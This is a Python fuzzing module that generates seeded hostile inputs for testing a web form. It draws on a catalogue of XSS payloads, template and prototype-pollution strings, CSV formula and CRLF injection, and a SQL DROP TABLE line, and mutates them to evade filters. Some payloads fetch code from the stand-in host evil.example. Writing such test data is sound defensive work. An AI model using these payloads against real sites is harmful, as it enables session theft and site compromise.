# SPDX-License-Identifier: Apache-2.0
"""Hostile texts in any number: what attackers write as a name, and mutations of it. The same seed, the same texts."""

import html
import random
import string
from urllib.parse import quote

# What a payload does when it runs; the page has no global `hit`, and nothing of ours asks `evil.example`.
_BODIES = (
    "hit=1",
    "alert(1)",
    "window.hit=1",
    "top['hit']=1",
    "prompt`1`",
    "fetch('//evil.example/x')",
    "import('//evil.example/x.js')",
    "location='//evil.example'",
    "[].constructor.constructor('hit=1')()",
    "setTimeout('hit=1')",
)
_FAMILIES = {
    "scripts": (
        "<script>{}</script>",
        "<ScRiPt>{}</sCrIpT>",
        "<script/x>{}</script>",
        "<script type=module>{}</script>",
        "<<script>{}//<</script>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "<script src=//evil.example/x.js></script>",
        "<noscript><p title='</noscript><script>{}</script>'>",
    ),
    "handlers": (
        "<img src=x onerror={}>",
        "<img/src='x'/onerror={}>",
        "<body onload={}>",
        "<details open ontoggle={}>",
        "<input autofocus onfocus={}>",
        "<video><source onerror={}></video>",
        "<audio src=x onerror={}>",
        "<marquee onstart={}>",
        "<div style=animation-name:ring onanimationstart={}>",
        "<p hx-get=//evil.example/x hx-trigger=load>",
        "<p hx-on:load='{}' hx-on::load='{}'>",
        "<tr data-href='javascript:{}'>",
    ),
    "drawings": (
        "<svg onload={}>",
        "<svg><script>{}</script></svg>",
        "<svg><animate onbegin={} attributeName=x dur=1s>",
        "<svg><use href=//evil.example/x.svg#a>",
        "<svg><foreignObject><img src=x onerror={}>",
        "<math><mtext><table><mglyph><style><img src=x onerror={}>",
        "<math><a xlink:href=javascript:{}>x",
    ),
    "addresses": (
        "javascript:{}",
        "JaVaScRiPt:{}//",
        "java\tscript:{}",
        "data:text/html,<script>{}</script>",
        "vbscript:{}",
        "<a href='javascript:{}'>x</a>",
        "<iframe src=javascript:{}>",
        "<iframe srcdoc='<script>{}</script>'>",
        "<object data=//evil.example/x>",
        "<embed src=//evil.example/x>",
        "<form action=javascript:{}><button>x",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=javascript:{}'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=prefetch href=//evil.example/x>",
    ),
    "templates": (
        "{{{{ {} }}}}",
        "{{% include '{}' %}}",
        "${{{}}}",
        "#{{{}}}",
        "<%= {} %>",
        "{{{{ self.__init__.__globals__ }}}} {}",
        "%(name)s %s %n {}",
        "{{0.__class__}} {}",
        "__proto__[hit]={}",
        "constructor.prototype.{}",
    ),
    "unicode": (
        "\uff1cscript\uff1e{}\uff1c/script\uff1e",
        "\u202e<script>{}</script>\u202c",
        "<\u200bscript>{}</script>",
        "<script>{}\u2028hit=1</script>",
        "\ufeff<img src=x onerror={}>",
        "<img src=x onerror\u00a0={}>",
        "\u0130<svg\u3000onload={}>",
        "Z\u0336\u0321\u0354a\u0337l\u0338g\u0335o\u0336 <b onclick={}>",
        "\u05d0\u05d1\u05d2 <script>{}</script> \u0645\u0631\u062d\u0628\u0627",
        "\U0001f469\u200d\U0001f4bb<img src=x onerror={}>",
        "\u02bcscript\u02bc \u201c>{}",
    ),
    "styles": (
        "<style>@import '//evil.example/x.css';</style>{}",
        "</style><script>{}</script>",
        "<div style=background:url(//evil.example/x)>{}",
        "<div style=position:fixed;inset:0;z-index:9999>{}",
        "x:expression({})",
        "}}*{{background:url(//evil.example/x)}} {}",
    ),
    "breakers": (
        '"><script>{}</script>',
        "'><img src=x onerror={}>",
        '" autofocus onfocus={} x="',
        "' onmouseover={} x='",
        "` onclick={} `",
        "--><script>{}</script><!--",
        "]]><script>{}</script>",
        "</textarea><script>{}</script>",
        "</title><script>{}</script>",
        "</select></option><img src=x onerror={}>",
        "</script><script>{}</script>",
        '\\"-{}-\\"',
        "\\');{}//",
        '"}}); {}; ({{"x":"',
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}&#60;/script&#62;",
        "&amp;quot;&gt; {}",
        "%3Cscript%3E{}%3C/script%3E",
        "\\x3cscript\\x3e{}",
        "=cmd|'/C {}'!A0",
        "\r\nSet-Cookie: hit=1\r\n\r\n<script>{}</script>",
        "'; DROP TABLE contact; -- {}",
    ),
}
LONGEST = 180  # a name's own limit is 200


def hostile_texts(count: int, seed: int) -> list[str]:
    """All plain ones, then mutations, each unlike any other."""
    chance = random.Random(seed)
    plain = [
        shape.replace("{}", body, 2) if "{{" not in shape else shape.format(body)
        for family in _FAMILIES.values()
        for shape in family
        for body in _BODIES
    ]
    found = dict.fromkeys(text for text in plain if len(text) <= LONGEST)
    while len(found) < count:
        text = chance.choice(plain)
        for _ in range(chance.randint(1, 3)):
            text = chance.choice(_MUTATIONS)(text, chance, plain)
        if text.strip() and len(text) <= LONGEST:
            found[text] = None
    texts = list(found)[:count]
    chance.shuffle(texts)
    return texts


def long_texts(count: int, seed: int) -> list[str]:
    """As long as a note may be, the payload somewhere within."""
    chance = random.Random(seed)
    texts = []
    for payload in hostile_texts(count, seed + 1):
        filler = chance.choice(["A", "<", "\u0300", "&", "{{", "\u202e", '"', "\U0001f469\u200d", "\n"])
        before = chance.randint(0, 4000)
        texts.append((filler * before)[:4000] + payload + (filler * 4000)[:4000])
    return texts


def _cases(text, chance, _):
    return "".join(chance.choice([c.upper(), c.lower()]) for c in text)


def _insert(text, chance, _):
    at = chance.randrange(len(text) + 1)
    odd = [
        "\t",
        "\n",
        "\r",
        "\x0b",
        "\x0c",
        "\x00",
        "\x1b",
        "\u00ad",
        "\u200f",
        "/",
        "<!-- -->",
        "\u0000\u0000",
    ]
    return text[:at] + chance.choice(odd) + text[at:]


def _entities(text, chance, _):
    return "".join(f"&#x{ord(c):x};" if chance.random() < 0.2 else c for c in text)


def _escaped(text, chance, _):
    return chance.choice([html.escape, quote, repr, lambda each: each.encode("unicode_escape").decode()])(
        text
    )


def _joined(text, chance, plain):
    return text + chance.choice(["", " ", '"', "'", ">", "\u202e"]) + chance.choice(plain)


def _wrapped(text, chance, _):
    left, right = chance.choice(
        [('"', '"'), ("'", "'"), ("<!--", "-->"), ("<b>", "</b>"), ("{{", "}}"), ("\u2067", "\u2069")]
    )
    return left + text + right


def _spaced(text, chance, _):
    return text.replace(" ", chance.choice(["/", "\t", "\n", "\x0c", "\u00a0", "%20", "+"]))


def _doubled(text, chance, _):
    return text.replace(*chance.choice([("<", "<<"), (">", ">>"), ("'", "''"), ('"', '""'), ("=", " = ")]))


def _tailed(text, chance, _):
    return text + " " + "".join(chance.choices(string.ascii_letters, k=chance.randint(1, 6)))


_MUTATIONS = (_cases, _insert, _entities, _escaped, _joined, _wrapped, _spaced, _doubled, _tailed)
